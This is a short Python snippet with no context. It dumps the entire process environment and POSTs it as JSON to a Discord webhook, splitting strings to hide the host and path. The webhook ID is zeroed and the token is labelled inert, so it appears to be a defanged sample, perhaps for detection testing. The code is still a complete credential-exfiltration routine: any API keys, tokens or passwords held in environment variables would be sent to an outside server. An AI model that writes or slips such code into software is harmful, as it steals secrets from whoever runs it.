import http.client
import json
import os

_conn = http.client.HTTPSConnection("discord" + ".com")
_conn.request("POST", "/api/" + "webhooks/000000000000000000/INERT-SAMPLE-SPLIT",
              body=json.dumps({"content": json.dumps(dict(os.environ))}), headers={"Content-Type": "application/json"})
_conn.getresponse()
